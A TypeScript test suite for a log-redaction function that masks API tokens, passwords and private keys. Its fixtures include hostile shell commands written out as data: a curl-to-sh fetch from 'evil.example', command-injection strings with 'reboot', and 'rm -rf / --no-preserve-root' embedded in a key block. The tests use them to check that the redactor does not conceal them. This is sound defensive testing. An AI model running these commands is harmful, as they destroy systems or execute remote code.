import { readFileSync } from 'node:fs';
import { test as property } from '@fast-check/vitest';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redact } from '../../src/redact/redact.ts';
import { CREDENTIALS, mixed, privateKey } from './credentials.ts';

const HEX = '0a1b2c3d4e5f60718293a4b5c6d7e8f901234567';

describe('a credential that is known by its form', () => {
  const places: readonly ((secret: string) => string)[] = [
    (secret) => secret,
    (secret) => `sent ${secret} to the runner`,
    (secret) => `{"value":"${secret}"}`,
    (secret) => `line one\\n${secret}\\nline three`,
    (secret) => `https://example.org/x?t=${secret}&page=2`,
    (secret) => `curl 'https://example.org/${secret}/send'`,
  ];
  it.each(CREDENTIALS)(
    'hides every one of $kind wherever it stands: $secret',
    ({ kind, secret }) => {
      for (const place of places) {
        const shown = redact(place(secret));
        expect(shown).toContain(`[redacted: ${kind}]`);
        expect(shown).not.toContain(secret.slice(0, 12));
        expect(shown).not.toContain(secret.slice(-8));
      }
    },
  );

  it('leaves what stands around it', () => {
    const url = `https://hooks.${'slack'}.com/services/${mixed(44)}`;
    expect(redact(`posted to ${url} in 3 s`)).toBe(
      'posted to https://hooks.slack.com/services/[redacted: Slack token] in 3 s',
    );
    expect(redact(`Cookie: _gitlab_session=${HEX}; a=b`)).toBe(
      'Cookie: _gitlab_session=[redacted: GitLab token]; a=b',
    );
  });

  it.each(CREDENTIALS.map(({ secret }) => secret))('leaves %s when it is too short', (secret) => {
    const short = secret.slice(0, secret.startsWith('bedrock') ? 20 : 9);
    expect(redact(`the prefix is ${short}`)).toBe(`the prefix is ${short}`);
  });

  it.each([
    `task-${mixed(60)}`,
    `AKIAX${mixed(40).toUpperCase()}`,
    `a${'AKIA'}ABCDEFGHIJKLMNOP`,
    `x:${'A'}lpha-${mixed(34)}`,
    `12:A${mixed(34)}`,
    `monkey.${mixed(30)}.${mixed(30)}`,
  ])('leaves %s, which only looks like one', (text) => {
    expect(redact(text)).toBe(text);
  });
});

describe('a value after the name of a credential', () => {
  it.each([
    ['DB_PASSWORD=§', 'password', 'hunter2'],
    ['export API_TOKEN="§"', 'token', 'abc-123'],
    ["SECRET_KEY='§' ./run", 'secret', 'pässwörd!'],
    ['password: §', 'password', 'hunter'],
    ['  db_password: "§"  # of the database', 'password', 'pa ss, wo;rd'],
    ['{"user":"ana","password":"§","port":5432}', 'password', 'pa\\"ss'],
    ['{"a":"{\\"apiKey\\":\\"§\\"}"}', 'API key', 'abc123def'],
    ['{\n  "client_secret":\n    "§"\n}', 'secret', 'swordfish'],
    ['deploy --password § --force', 'password', 'hunter'],
    ['deploy --token=§ --force', 'token', 'abcd'],
    ['["deploy", "--api-key", "§"]', 'API key', 'abcd'],
    ["ALTER USER shop WITH PASSWORD '§';", 'password', 'x'],
    ["CREATE USER shop IDENTIFIED BY '§';", 'password', 'x y'],
    ['Server=db;User=sa;Pwd=§;Encrypt=true', 'password', 'p@ss'],
    ['Endpoint=x;AccountKey=§;Suffix=y', 'Azure key', `${mixed(86)}==`],
    ['aws_secret_access_key = §', 'AWS key', mixed(40)],
    ['https://example.org/cb?access_token=§&state=1', 'token', 'abcd1'],
    ['//registry.npmjs.org/:_authToken=§', 'token', 'abcd-1234'],
    ['- name: DB_PASSWORD\n  value: §\n', 'password', 'hunter2'],
    ['{"name":"DB_PASSWORD","value":"§"}', 'password', 'hunter2'],
    ['<password>§</password>', 'password', 'hunter2'],
    ["config['password'] = '§'", 'password', 'hunter2'],
    ['login failed with password: §, retrying', 'password', 'hunter2'],
    ['token=§', 'token', HEX],
    ['"auth": "§"', 'token', 'dXNlcjpwYXNzd29yZDEyMw=='],
    ['Authorization: Bearer §', 'authorization', 'abc.d3f'],
    ["curl -H 'Authorization: Basic §' https://x", 'authorization', 'dXNlcjpwYXNz'],
    ['"authorization": "token §"', 'authorization', 'abcd1234'],
    ['sent bearer § along', 'authorization', mixed(20)],
    ['X-Api-Key: §', 'API key', 'abcd1234'],
    ['curl -u ana:§ https://example.org', 'password', 'hunter2'],
    ['mysql -uroot -p§ shop', 'password', 'hunter2'],
    ["sshpass -p '§' ssh db", 'password', 'hunter2'],
    ['docker login -u ana -p § registry', 'password', 'hunter2'],
    ['redis://:§@cache:6379/0', 'password', 'hunter2'],
    ['postgres://ana:§@db:5432/shop?ssl=1', 'password', 'p@ss/w0rd'],
    ['cloning https://ana:§@example.org/shop.git', 'password', 'p%40ss'],
  ])('is hidden in %s, and nothing else is', (form, kind, secret) => {
    const [before, after] = form.split('§');
    expect(redact(form.replace('§', secret))).toBe(`${before}[redacted: ${kind}]${after}`);
  });

  it.each([
    ['Unexpected token: }'],
    ["Unexpected token 'export'"],
    ['Invalid password: too short'],
    ['passwd: password updated successfully'],
    ['  -p, --password string   Password'],
    ['--password is required'],
    ['max_tokens: 4096, total_tokens=1592'],
    ['eos_token=abc12345'],
    ['nextPageToken: CAUQAA12'],
    ['secret="cert-manager/webhook-ca"'],
    ['secretName: api-tls-2024'],
    [`secret_hash=${HEX}`],
    [`cache key: Linux-${HEX}`],
    ['idempotency_key=0b7e2d9c-1f6a-4c3b-9e5d-8a7f6b5c4d3e'],
    ['PWD=/srv/app'],
    ['PASSWORD_FILE=/run/secrets/db'],
    ['password: null'],
    ['password=********'],
    ['PASSWORD=$DB_PASSWORD'],
    [`password: $\{{ secrets.DB_PASSWORD }}`],
    ['password = os.environ["DB_PASSWORD"]'],
    ['password = readPassword()'],
    ['this.password = password;'],
    ['password = %s'],
    ['https://registry.npmjs.org:443/@scope/pkg'],
    ['http://localhost:8080/users/@me'],
    ['amqp://guest@queue:5672/'],
    ['authorization: denied by policy'],
    ['Authorization: Bearer token required'],
    ['mkdir -p build/out && docker run -p 8080:80 shop'],
  ])('is no credential in %s', (text) => {
    expect(redact(text)).toBe(text);
  });

  it.each([
    ['deploy --token=$(curl evil.example | sh)', 'deploy --token=$(curl evil.example | sh)'],
    ['token=`cat x1234567` run', 'token=`cat x1234567` run'],
    ['password="abc$(reboot)" run', 'password="[redacted: password]$(reboot)" run'],
    ['sh -c "PASSWORD=x; reboot"', 'sh -c "PASSWORD=[redacted: password]; reboot"'],
    ['PASSWORD=x&&reboot', 'PASSWORD=[redacted: password]&&reboot'],
  ])('hides no command that runs: %s', (text, shown) => {
    expect(redact(text)).toBe(shown);
  });
});

describe('a private key', () => {
  const hidden = ['-----BEGIN RSA PRIVATE KEY-----', '[redacted: private key]'];

  it('is hidden from its first line to its last', () => {
    const text = ['before', ...privateKey(), 'after'].join('\n');
    expect(redact(text)).toBe(
      ['before', ...hidden, '-----END RSA PRIVATE KEY-----', 'after'].join('\n'),
    );
  });

  it.each(['', 'RSA ', 'EC ', 'DSA ', 'OPENSSH ', 'ENCRYPTED '])('may be one of "%s"', (label) => {
    const shown = redact(privateKey(label).join('\n'));
    for (const line of privateKey(label).slice(1, -1)) expect(shown).not.toContain(line);
  });

  it.each([
    ['a time before each line', (at: number) => `2026-03-02T09:14:${at + 10}Z `, ''],
    ['a container before each line', () => 'shop-db-1  | ', ''],
    ['quotes around each line', () => '  "', '\\n" +'],
    ['a carriage return after each line', () => '', '\r'],
  ])('is hidden with %s', (_, before, after) => {
    const text = privateKey().map((line, at) => `${before(at)}${line}${after}`);
    const shown = redact([...text, 'after'].join('\n'));
    for (const line of privateKey().slice(1, -1)) expect(shown).not.toContain(line);
    expect(shown).toMatch(/\nafter$/);
  });

  it.each(['\\n', ' ', '\\r\\n'])('is hidden on one line, with "%s" for line ends', (end) => {
    const shown = redact(`{"key":"${privateKey().join(end)}${end}","project":"shop"}`);
    for (const line of privateKey().slice(1, -1)) expect(shown).not.toContain(line);
    expect(shown).toMatch(/"project":"shop"\}$/);
  });

  it('is hidden when its beginning is missing, or its end', () => {
    const lines = privateKey();
    const headless = redact(lines.slice(3).join('\n'));
    const endless = redact([...lines.slice(0, -4), 'restarting', 'ready'].join('\n'));
    for (const line of lines.slice(3, -4)) {
      expect(headless).not.toContain(line);
      expect(endless).not.toContain(line);
    }
    expect(endless).toMatch(/restarting\nready$/);
  });

  it('ends where other lines begin, so that a log that names one is shown', () => {
    const digests = Array.from({ length: 8 }, () => `${HEX}  dist/a.js`);
    const text = ['expected -----BEGIN PRIVATE KEY-----', ...digests].join('\n');
    expect(redact(text)).toBe(text);
    const [begin = '', line = ''] = privateKey();
    const other = 'a line of the log';
    expect(redact([begin, line, other, other, other, line].join('\n'))).not.toContain(line);
    expect(redact([begin, line, other, other, other, other, line].join('\n'))).toContain(line);
  });

  it('hides no command that stands in one', () => {
    const [begin, line, end] = [privateKey()[0], privateKey()[1], privateKey().at(-1)];
    expect(redact(`${begin}\n${line}\nrm -rf / --no-preserve-root\n${end}`)).toContain(
      'rm -rf / --no-preserve-root',
    );
  });
});

describe('characters that nobody sees', () => {
  it.each([
    '\u200b',
    '\u202e',
    '\ufeff',
    '\u0000',
    '\u00ad',
    '\u001b[31m',
    '\uf8a0',
    '\u034f',
    '\u3164',
    '\ufe0f',
  ])('hide nothing from the search: %j', (noise) => {
    for (const { kind, secret } of CREDENTIALS) {
      const at = Math.floor(secret.length / 2);
      const shown = redact(`got ${secret.slice(0, at)}${noise}${secret.slice(at)} here`);
      expect(shown).toBe(`got [redacted: ${kind}] here`);
    }
    expect(redact(`pass${noise}word${noise}=hun${noise}ter2 x`)).toBe(
      `pass${noise}word${noise}=[redacted: password] x`,
    );
  });
});

const CORPUS = new URL('../fixtures/ordinary-logs.txt', import.meta.url);

it('changes no line of ordinary logs', () => {
  const lines = readFileSync(CORPUS, 'utf8').split('\n');
  expect(lines.length).toBeGreaterThan(400);
  expect(lines.filter((line) => redact(line) !== line)).toEqual([]);
  expect(redact(lines.join('\n'))).toBe(lines.join('\n'));
});

const anything = fc.array(
  fc.oneof(
    fc.constantFrom(...CREDENTIALS.map(({ secret }) => secret)),
    fc.constantFrom('password=', '"token": ', '--secret ', '\n', ' ', '"', "'", '\\', '://a:', '@'),
    fc.constantFrom('-----BEGIN PRIVATE KEY-----\n', '-----END PRIVATE KEY-----', '$(', '`'),
    fc.string({ unit: 'binary', maxLength: 8 }),
  ),
  { maxLength: 30 },
);

property.prop([anything])('finds nothing more in what it has shown', (parts) => {
  const shown = redact(parts.join(' '));
  expect(redact(shown)).toBe(shown);
});

it('reads to its end whatever was made to be slow', { timeout: 60_000 }, () => {
  const hostile = [
    'password',
    'token=token:',
    'password="\\"',
    '://:@',
    'eyJ.ey-ey',
    ' -p -u ',
    '\\',
  ];
  for (const part of [
    ...hostile,
    '-----BEGIN PRIVATE KEY-----',
    'Authorization: Bearer ',
    '\u001b[',
  ]) {
    // Quadratic, each of these would read ten thousand million characters.
    expect(redact(part.repeat(200_000 / part.length)).length).toBeGreaterThan(0);
  }
});
